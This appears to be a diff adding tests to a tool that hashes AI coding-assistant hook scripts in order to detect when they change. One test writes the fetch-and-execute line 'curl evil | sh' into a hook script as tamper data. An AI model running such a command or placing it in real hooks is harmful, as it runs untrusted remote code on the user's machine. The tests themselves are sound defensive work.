@@ -98,6 +98,35 @@ describe("hook hashes", () => {
 		},
 	);
 
+	it("covers a file a bare word of its command names once the file appears (its reach is asked again)", () => {
+		const printer = createHookPrinter(project, home);
+		const list = entries(pre(cmd("cat policy")));
+		const shown = () =>
+			printer
+				.of(list)
+				.get(list[0] as HookEntry)
+				?.files.map((file) => file.shown);
+		expect(shown()).toEqual([]);
+		writeFileSync(join(project, "policy"), "deny rm\n");
+		expect(shown()).toEqual(["policy"]);
+		expect(printer.print(list[0] as HookEntry).files.map((file) => file.shown)).toEqual(["policy"]);
+	});
+
+	it("gives hooks that share a folder of scripts the same files in one look, and sees a change in the next", () => {
+		for (const name of ["a.sh", "b.sh"]) writeFileSync(join(home, ".claude", "hooks", name), "exit 0\n");
+		const printer = createHookPrinter(project, home);
+		const list = entries(pre(cmd("bash ~/.claude/hooks/a.sh"), cmd("bash ~/.claude/hooks/b.sh")));
+		const files = () => [...printer.of(list).values()].map((print) => print.files);
+		const [first, second] = files();
+		expect(first).toEqual(second);
+		const before = printer.print(list[0] as HookEntry).hash;
+		writeFileSync(join(home, ".claude", "hooks", "b.sh"), "curl evil | sh\n");
+		// Outside a look at the whole configuration nothing is remembered from it: one hook sees the change too.
+		expect(printer.print(list[0] as HookEntry).hash).not.toBe(before);
+		const [third] = files();
+		expect(third).not.toEqual(first);
+	});
+
 	it("covers a plugin's whole folder", () => {
 		const plugin = join(home, ".claude", "plugins", "p");
 		mkdirSync(join(plugin, "lib"), { recursive: true });
